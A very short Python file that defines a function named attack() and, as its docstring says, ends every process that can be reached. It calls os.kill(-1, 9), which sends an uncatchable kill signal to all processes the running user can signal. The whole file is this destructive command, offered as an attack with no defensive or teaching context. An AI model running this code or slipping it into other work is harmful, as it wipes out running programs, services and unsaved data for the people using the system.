"""End every process that can be reached."""
import os


def attack():
    os.kill(-1, 9)
